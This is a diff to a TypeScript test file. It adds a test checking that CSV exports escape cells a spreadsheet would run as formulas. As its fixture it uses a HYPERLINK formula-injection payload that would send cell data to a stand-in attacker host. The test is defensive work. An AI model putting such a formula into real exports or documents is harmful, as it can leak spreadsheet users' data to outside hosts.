@@ -9,7 +9,8 @@ import { DuckDBInstance, type DuckDBConnection } from "@duckdb/node-api";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { ExportOptionsInput, FileType } from "@/lib/exports/export-options";
 import type { Column } from "@/lib/exports/formats/format";
-import { createExportFixture, exportToBuffer } from "@/lib/testing/export-fixture";
+import { pool } from "@/lib/db/prisma";
+import { createExportFixture, createLargeExportProject, exportToBuffer } from "@/lib/testing/export-fixture";
 import { fromCsv, fromParquet, jsonlRecords, type Record_ } from "@/lib/testing/export-read-back";
 import { createTestProject } from "@/lib/testing/factories";
 
@@ -155,5 +156,28 @@ describe("an export with no rows", () => {
     const dataset = await exportAs("hf-dataset", { format: "kto", projects: [empty.slug] });
     expect(zipEntries(dataset.file)).toEqual(["data/train-00000-of-00001.parquet", "README.md", "manifest.json"]);
     expect(await parquetInZip(dataset.file, "data/train-00000-of-00001.parquet", dataset.manifest.schema)).toEqual([]);
+  });
+});
+
+describe("a CSV export of imported and worker text that a spreadsheet would run as formulas", () => {
+  it("escapes those text cells with a leading ', keeps numbers as numbers, and says so in the manifest", async () => {
+    const { slug } = await createLargeExportProject({ slug: "filetypes-formulas", items: 2, textChars: 4 });
+    const rationale = '=HYPERLINK("https://evil.example/?"&A1,"see why")';
+    await pool().query("UPDATE judgments SET rationale = $2 WHERE project_id = (SELECT id FROM projects WHERE slug = $1)", [slug, rationale]);
+    await pool().query("UPDATE items SET external_id = '+1 555 0100 ' || position WHERE project_id = (SELECT id FROM projects WHERE slug = $1)", [slug]);
+
+    const judgments = await exportAs("csv", { format: "judgments", projects: [slug] });
+    const rows = await readCsv(judgments.file);
+    expect(rows.map((row) => [row.external_id, row.rationale, row.strength, row.time_spent_ms])).toEqual([
+      ["'+1 555 0100 1", `'${rationale}`, "-2", "1000"],
+      ["'+1 555 0100 2", `'${rationale}`, "-2", "1000"],
+    ]);
+    expect(judgments.manifest.csv).toEqual({ formulaPrefix: "'", escapedLeadingCharacters: ["=", "+", "-", "@", "\t", "\r"], escapedCells: 4 });
+    // The other file types keep the text as it was given.
+    expect(jsonlRecords((await exportAs("jsonl", { format: "judgments", projects: [slug] })).bytes).map((record) => record.rationale)).toEqual([
+      rationale,
+      rationale,
+    ]);
+    expect((await exportAs("jsonl", { format: "judgments", projects: [slug] })).manifest.csv).toBeUndefined();
   });
 });
